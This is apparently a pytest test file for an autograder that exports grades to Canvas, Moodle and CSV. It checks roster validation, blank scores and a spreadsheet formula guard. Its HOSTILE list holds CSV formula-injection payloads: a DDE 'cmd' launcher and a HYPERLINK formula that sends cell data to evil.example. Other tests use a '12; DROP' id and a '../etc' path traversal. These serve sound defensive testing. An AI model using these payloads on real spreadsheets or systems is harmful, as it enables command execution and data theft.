"""Grades in the LMS's own format (autograder.export, ``python -m autograder export``).

The expected files are written out here from the importers' documented rules (see the
module's docstring): Canvas's header and its "Points Possible" row, a blank cell for no
score, the ``Title (id)`` column; Moodle's identifier, grade and feedback columns. Records
are written by the grader's own record writer, so they have the format ``grade`` gives them.
Every file is read back with Python's csv module: hostile names and ids (formulas, quotes,
commas, line breaks, very long ones) must come back exactly, after the formula guard is
undone, and must never start a cell as a formula. Fast: no grading, no nbgrader.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from autograder import cli
from autograder.export import ExportError, export_grades, read_roster, report
from autograder.protocol import Status
from autograder.record import record_path, write_record
from autograder.results import NotebookResult
from autograder.results import TestResult as ExerciseResult  # not collected by pytest
from autograder.spreadsheet import needs_guard, original_cell

A = "hw1"
HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&C2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+2",
    "\r=1+2",
    'say "hi"',
    "Smith, Jr.",
    "two\nlines",
    "cr\rinside",
    "'quoted'",
    "\u200b=1+2",  # a zero-width space first
    "\uff1d1+2",  # a full-width equals sign
    "x" * 5000,
]
UNICODE = ["José", "Jose\u0301", "Zoë", "李小龙", "Ольга", "محمد", "😀 emoji", "ǅemal"]


def record(course: Path, student: str, points: dict[str, tuple[float, float]],
           status: str = Status.GRADED, message: str = "") -> None:
    """A record as ``grade`` writes it: one test per exercise, (points, max_points)."""
    tests = [ExerciseResult(grade_id, got, most,
                        Status.PASSED if got == most else Status.FAILED,
                        f"message of {grade_id}: SECRET-VALUE")
             for grade_id, (got, most) in points.items()]
    result = NotebookResult(f"{A}.ipynb", A, tests, student=student, status=status,
                            message=message)
    write_record(record_path(course, A, student), result, "fingerprint")


def write_roster(path: Path, rows: list[list[str]]) -> Path:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    path.write_text(text.getvalue(), encoding="utf-8")
    return path


def read_back(path: Path) -> list[list[str]]:
    """The file's cells as an importer reads them, with the formula guard undone; and no
    cell starts as a formula."""
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file, strict=True))
    for row in rows:
        for cell in row:
            assert not cell or not needs_guard(cell) or cell.startswith("'"), cell
    return [[original_cell(cell) for cell in row] for row in rows]


@pytest.fixture
def course(tmp_path: Path) -> Path:
    root = tmp_path / "course"
    record(root, "alice", {"ex1": (1, 2), "ex2": (2, 3)})  # 3 of 5
    record(root, "bob", {"ex1": (2, 2), "ex2": (0.5, 3)})  # 2.5 of 5
    return root


# -- Canvas ----------------------------------------------------------------------------


def test_canvas_file_follows_the_importers_rules(course: Path, tmp_path: Path) -> None:
    roster = write_roster(tmp_path / "roster.csv", [
        ["grader_id", "name", "canvas_id", "sis_user_id", "sis_login_id", "section"],
        ["alice", "Doe, Alice", "101", "S1", "adoe", "Sec A"],
        ["carol", "Roe, Carol", "103", "S3", "croe", "Sec B"],  # no record: blank score
        ["bob", "Poe, Bob", "102", "S2", "bpoe", ""],
    ])
    done = export_grades(course, A, "canvas", roster_path=roster, title="Homework 1",
                         canvas_assignment_id="4242")
    assert read_back(done.path) == [
        [*HEADER, "Homework 1 (4242)"],
        ["Points Possible", "", "", "", "", "5"],
        ["Doe, Alice", "101", "S1", "adoe", "Sec A", "3"],
        ["Roe, Carol", "103", "S3", "croe", "Sec B", ""],
        ["Poe, Bob", "102", "S2", "bpoe", "", "2.5"],
    ]
    assert done.path == course.resolve() / "exports" / A / "canvas.csv"
    assert done.rows == 3 and done.blank == ["carol"] and not done.left_out


def test_canvas_column_is_the_plain_title_without_an_id(course: Path, tmp_path: Path) -> None:
    roster = write_roster(tmp_path / "r.csv", [["grader_id", "sis_login_id"], ["bob", "bpoe"]])
    done = export_grades(course, A, "canvas", roster_path=roster)
    rows = read_back(done.path)
    assert rows[0] == [*HEADER, A]
    assert rows[2] == ["", "", "", "bpoe", "", "2.5"]  # columns the roster lacks are blank


def test_canvas_gradebook_export_works_as_the_roster(course: Path, tmp_path: Path) -> None:
    """Canvas's own export, with a grader_id column added: its headers are understood
    ("Student" is the name, "ID" Canvas's id) and its Points Possible row is skipped."""
    roster = write_roster(tmp_path / "canvas_export.csv", [
        [*HEADER, "Old quiz (77)", "grader_id"],
        ["    Points Possible", "", "", "", "", "10", ""],
        ["Doe, Alice", "101", "S1", "adoe", "Sec A", "9", "alice"],
    ])
    rows = read_back(export_grades(course, A, "canvas", roster_path=roster).path)
    assert rows[2] == ["Doe, Alice", "101", "S1", "adoe", "Sec A", "3"]
    assert len(rows) == 3


def test_sums_of_points_are_written_without_float_noise(tmp_path: Path) -> None:
    root = tmp_path / "c"
    record(root, "alice", {"ex1": (0.1, 1), "ex2": (0.2, 1)})  # 0.1 + 0.2 != 0.3 in floats
    roster = write_roster(tmp_path / "r.csv", [["grader_id", "canvas_id"], ["alice", "1"]])
    rows = read_back(export_grades(root, A, "canvas", roster_path=roster).path)
    assert rows[2][-1] == "0.3" and rows[1][-1] == "2"


@pytest.mark.parametrize(("options", "words"), [
    ({"title": "Quiz (12)"}, "reads as an assignment id"),
    ({"canvas_assignment_id": "12; DROP"}, "ids are digits"),
    ({"canvas_assignment_id": "-1"}, "ids are digits"),
    ({"title": "  "}, "blank"),
    ({"moodle_id": "email"}, "--moodle-id is for --format moodle"),
])
def test_canvas_options_that_would_make_a_wrong_file_are_refused(
        course: Path, tmp_path: Path, options: dict, words: str) -> None:
    roster = write_roster(tmp_path / "r.csv", [["grader_id", "canvas_id"], ["alice", "1"]])
    with pytest.raises(ExportError, match=words):
        export_grades(course, A, "canvas", roster_path=roster, **options)
    assert not (course / "exports").exists()


def test_lms_formats_need_a_roster(course: Path) -> None:
    for fmt in ("canvas", "moodle"):
        with pytest.raises(ExportError, match="needs --roster"):
            export_grades(course, A, fmt)


# -- Moodle ----------------------------------------------------------------------------


def test_moodle_file_has_identifier_grade_and_feedback(course: Path, tmp_path: Path) -> None:
    roster = write_roster(tmp_path / "r.csv", [
        ["grader_id", "email", "idnumber"],
        ["bob", "bob@example.edu", "N2"],
        ["alice", "alice@example.edu", "N1"],
        ["carol", "carol@example.edu", "N3"],
    ])
    done = export_grades(course, A, "moodle", roster_path=roster, title="HW 1")
    rows = read_back(done.path)
    assert rows[0] == ["Email address", "HW 1", "HW 1 (feedback)"]
    assert [row[:2] for row in rows[1:]] == [
        ["bob@example.edu", "2.5"], ["alice@example.edu", "3"], ["carol@example.edu", ""]]
    assert rows[2][2] == "Score 3/5; ex1: 1/2 (failed); ex2: 2/3 (failed)"
    assert rows[3][2] == ""  # no record, no feedback
    assert "SECRET-VALUE" not in done.path.read_text(encoding="utf-8")  # no messages

    by_number = export_grades(course, A, "moodle", roster_path=roster, moodle_id="idnumber")
    assert [row[0] for row in read_back(by_number.path)] == ["ID number", "N2", "N1", "N3"]


def test_moodle_needs_an_identifier_for_every_row(course: Path, tmp_path: Path) -> None:
    no_column = write_roster(tmp_path / "a.csv", [["grader_id", "name"], ["alice", "A"]])
    with pytest.raises(ExportError, match=r"a\.csv, line 1: no email, idnumber or username"):
        export_grades(course, A, "moodle", roster_path=no_column)
    with pytest.raises(ExportError, match="no username column"):
        export_grades(course, A, "moodle", roster_path=no_column, moodle_id="username")
    blank = write_roster(tmp_path / "b.csv", [["grader_id", "email"], ["alice", "a@x"],
                                              ["bob", " "]])
    with pytest.raises(ExportError, match=r"b\.csv, line 3: email is blank"):
        export_grades(course, A, "moodle", roster_path=blank)
    twice = write_roster(tmp_path / "c.csv", [["grader_id", "email"], ["alice", "a@x"],
                                              ["bob", "a@x"]])
    with pytest.raises(ExportError, match=r"c\.csv, line 3: email \"a@x\" is on line 2"):
        export_grades(course, A, "moodle", roster_path=twice)


# -- csv -------------------------------------------------------------------------------


def test_plain_csv_lists_every_record_and_every_roster_student(
        course: Path, tmp_path: Path) -> None:
    assert read_back(export_grades(course, A, "csv").path) == [
        ["student", "status", "score", "max_score", "ex1", "ex2"],
        ["alice", "graded", "3", "5", "1", "2"],
        ["bob", "graded", "2.5", "5", "2", "0.5"],
    ]
    roster = write_roster(tmp_path / "r.csv", [["Name", "grader_id"], ["Carol", "carol"],
                                               ["Alice", "alice"]])
    done = export_grades(course, A, "csv", roster_path=roster)
    assert read_back(done.path) == [
        ["student", "Name", "status", "score", "max_score", "ex1", "ex2"],
        ["carol", "Carol", "no record", "", "", "", ""],
        ["alice", "Alice", "graded", "3", "5", "1", "2"],
        ["bob", "", "graded", "2.5", "5", "2", "0.5"],  # not on the roster, still listed
    ]
    assert not done.left_out and any("bob" in w for w in done.warnings)


# -- what has no score, and what is not in the file ------------------------------------


def test_grades_that_are_not_final_are_blank_and_reported(course: Path, tmp_path: Path) -> None:
    record(course, "dan", {}, status=Status.INVALID, message="not a notebook")
    record(course, "eve", {"ex1": (2, 2), "ex2": (3, 3)}, status=Status.GRADER_ERROR)
    roster = write_roster(tmp_path / "r.csv", [["grader_id", "canvas_id"], ["dan", "4"],
                                               ["eve", "5"], ["alice", "1"]])
    done = export_grades(course, A, "canvas", roster_path=roster)
    assert [row[-1] for row in read_back(done.path)[2:]] == ["", "", "3"]
    assert done.not_final == [("dan", Status.INVALID), ("eve", Status.GRADER_ERROR)]
    text = "\n".join(report(done, roster))
    assert '"dan": invalid notebook' in text and '"eve": grader error' in text
    assert "rerun grade" in text


def test_records_without_a_roster_row_are_reported_not_dropped(
        course: Path, tmp_path: Path) -> None:
    record(course, "alice\u200b", {"ex1": (2, 2), "ex2": (3, 3)})  # looks like alice
    record(course, "ＣＡＲＯＬ", {"ex1": (2, 2), "ex2": (3, 3)})  # full width: like carol
    roster = write_roster(tmp_path / "r.csv", [["grader_id", "canvas_id"], ["carol", "3"],
                                               ["alice", "1"]])
    done = export_grades(course, A, "canvas", roster_path=roster)
    assert done.left_out == ["alice\u200b", "bob", "ＣＡＲＯＬ"]
    assert len(read_back(done.path)) == 4  # header, points possible, carol, alice
    lines = report(done, roster)
    assert "3 graded student(s)" in lines[0] and "NOT in" in lines[0]
    assert "add a row for each" in lines[0]
    assert lines[1:4] == [
        '  "alice\\u200b" (looks like "alice" on line 3 of the roster: the same student?)',
        '  "bob"',
        '  "ＣＡＲＯＬ" (looks like "carol" on line 2 of the roster, which has no record: '
        "the same student?)"]


def test_identities_changed_by_the_formula_guard_are_reported(
        course: Path, tmp_path: Path) -> None:
    roster = write_roster(tmp_path / "r.csv", [["grader_id", "canvas_id", "sis_login_id"],
                                               ["alice", "1", "-alice"], ["bob", "2", "bob"]])
    done = export_grades(course, A, "canvas", roster_path=roster)
    assert [(row.grader_id, column) for row, column in done.guarded] == \
        [("alice", "sis_login_id")]
    assert "roster line 2: sis_login_id \"-alice\"" in "\n".join(report(done, roster))
    with done.path.open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[2][3] == "'-alice"  # no spreadsheet runs it


def test_records_that_disagree_on_the_maximum_are_warned_about(
        course: Path, tmp_path: Path) -> None:
    record(course, "carol", {"ex1": (2, 2), "ex2": (3, 3), "ex3": (1, 1)})
    roster = write_roster(tmp_path / "r.csv", [["grader_id", "canvas_id"], ["alice", "1"]])
    done = export_grades(course, A, "canvas", roster_path=roster)
    assert read_back(done.path)[1][-1] == "6"
    assert any("disagree on the assignment's maximum (5, 6)" in w for w in done.warnings)


def test_unreadable_record_files_are_reported(course: Path) -> None:
    folder = course / "grades" / A
    (folder / "broken.json").write_text('{"student": "x", "score": "ten"}', encoding="utf-8")
    (folder / "huge.json").write_text(
        '{"student": "y", "status": "graded", "score": 1' + "0" * 400 + ', "max_score": 5, '
        '"tests": []}', encoding="utf-8")
    (folder / "cut.json").write_text('{"student": "z", "sta', encoding="utf-8")
    done = export_grades(course, A, "csv")
    assert [p.name for p in done.unreadable] == ["broken.json", "cut.json", "huge.json"]
    assert "broken.json: not a record" in report(done, None)[0]
    assert len(read_back(done.path)) == 3  # the header, alice and bob


def test_no_records_is_an_error_that_says_to_grade(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"no such folder.*python -m autograder grade hw1"):
        export_grades(tmp_path, A, "csv")
    (tmp_path / "grades" / A).mkdir(parents=True)
    with pytest.raises(ExportError, match="no graded records"):
        export_grades(tmp_path, A, "csv")
    with pytest.raises(ExportError, match="not an assignment name"):
        export_grades(tmp_path, "../etc", "csv")


# -- hostile and Unicode text ----------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE + UNICODE, ids=lambda text: ascii(text)[:24])
def test_hostile_and_unicode_text_round_trips_and_never_runs(
        tmp_path: Path, text: str) -> None:
    """The same text as a student's folder name (so a record's id), their LMS name and
    their LMS identity: every file reads back to exactly that text, one row per student."""
    root = tmp_path / "c"
    record(root, text, {"ex1": (1, 2)})
    record(root, "plain", {"ex1": (2, 2)})
    roster = write_roster(tmp_path / "r.csv", [
        ["grader_id", "name", "sis_login_id", "section", "email"],
        [text, text, text, text, text],
        ["plain", "Plain", "p", "", "p@x"],
    ])
    canvas = read_back(export_grades(root, A, "canvas", roster_path=roster,
                                     title=text).path)
    assert canvas[0][-1] == text
    assert canvas[2:] == [[text, "", "", text, text, "1"], ["Plain", "", "", "p", "", "2"]]
    moodle = read_back(export_grades(root, A, "moodle", roster_path=roster).path)
    assert [row[:2] for row in moodle[1:]] == [[text, "1"], ["p@x", "2"]]
    plain = read_back(export_grades(root, A, "csv").path)
    assert sorted(row[0] for row in plain[1:]) == sorted([text, "plain"])


def test_folder_names_that_were_not_utf8_are_written_as_replacement_characters(
        tmp_path: Path) -> None:
    record(tmp_path, "bad\udcffbytes", {"ex1": (1, 2)})  # how Python reads byte 0xff
    done = export_grades(tmp_path, A, "csv")
    assert read_back(done.path)[1][:3] == ["bad\ufffdbytes", "graded", "1"]


def test_roster_with_a_byte_order_mark_is_read(course: Path, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes("\ufeffgrader_id,canvas_id\r\nalice,1\r\n".encode())
    assert read_roster(path).rows[0].values == {"canvas_id": "1"}


# -- a bad roster: the file, the line, what to do --------------------------------------


@pytest.mark.parametrize(("content", "where", "words"), [
    (b"", "", "empty"),
    (b"name,canvas_id\nA,1\n", "line 1", "no grader_id column"),
    (b"grader_id,Canvas ID,canvas_id\na,1,1\n", "line 1", "two columns mean canvas_id"),
    (b"grader_id,,canvas_id\na,1,1\n", "line 1", "column 2 has no name"),
    (b"grader_id,canvas_id\nalice,1\n\nbob,2\nalice,3\n", "line 5", "is on line 2 too"),
    (b"grader_id,canvas_id\nalice,1\n,2\n", "line 3", "no grader_id"),
    (b"grader_id,name\nalice,Doe, Alice\n", "line 2", "3 cells, but the header has 2"),
    (b'grader_id,name\n"a\nb",x\nc\n', "line 4", "1 cells"),  # line 2 holds two lines
    (b'grader_id,name\nalice,"Doe" x\n', "line 2", "not valid CSV"),
    (b"grader_id,name\nalice,Jos\xe9\n", "line 2", "not UTF-8"),
])
def test_bad_roster_is_a_clear_error(tmp_path: Path, content: bytes, where: str,
                                     words: str) -> None:
    path = tmp_path / "roster.csv"
    path.write_bytes(content)
    with pytest.raises(ExportError) as error:
        read_roster(path)
    assert str(error.value).startswith(f"{path}{', ' + where if where else ''}: ")
    assert words in str(error.value)


def test_missing_roster_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"nope\.csv: cannot read the roster"):
        read_roster(tmp_path / "nope.csv")


@pytest.mark.parametrize(("rows", "words"), [
    ([["grader_id", "name"], ["alice", "A"]], "line 1: no column that tells Canvas"),
    ([["grader_id", "canvas_id", "sis_user_id"], ["alice", "", " "]], "line 2: canvas_id, "
     "sis_user_id all blank"),
    ([["grader_id", "sis_user_id"], ["alice", "S1"], ["bob", "S1"]], "line 3: sis_user_id"),
])
def test_canvas_roster_must_identify_each_student_once(
        course: Path, tmp_path: Path, rows: list[list[str]], words: str) -> None:
    with pytest.raises(ExportError, match=words):
        export_grades(course, A, "canvas", roster_path=write_roster(tmp_path / "r.csv", rows))


# -- the command -----------------------------------------------------------------------


def test_command_exit_status_and_messages(course: Path, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    roster = write_roster(tmp_path / "r.csv", [["grader_id", "canvas_id"], ["alice", "1"],
                                               ["carol", "3"]])
    out = tmp_path / "canvas.csv"
    argv = ["export", A, "--format", "canvas", "--course", str(course), "--roster",
            str(roster), "--out", str(out), "--canvas-assignment-id", "9"]
    assert cli.main(argv) == cli.NOT_ALL_GRADED  # bob has no roster row
    printed = capsys.readouterr()
    assert f"wrote {out}: 2 student(s), 1 on the roster without a record" in printed.out
    assert '"bob"' in printed.err and "add a row for each" in printed.err
    assert read_back(out)[0][-1] == "hw1 (9)"

    write_roster(roster, [["grader_id", "canvas_id"], ["alice", "1"], ["bob", "2"]])
    assert cli.main(argv) == 0 and capsys.readouterr().err == ""

    assert cli.main([*argv[:-2], "--canvas-assignment-id", "x"]) == 2
    assert "ids are digits" in capsys.readouterr().err
    assert cli.main([*argv[:-4], "--out", str(tmp_path / "no" / "f.csv")]) == 2
    assert "does not exist" in capsys.readouterr().err
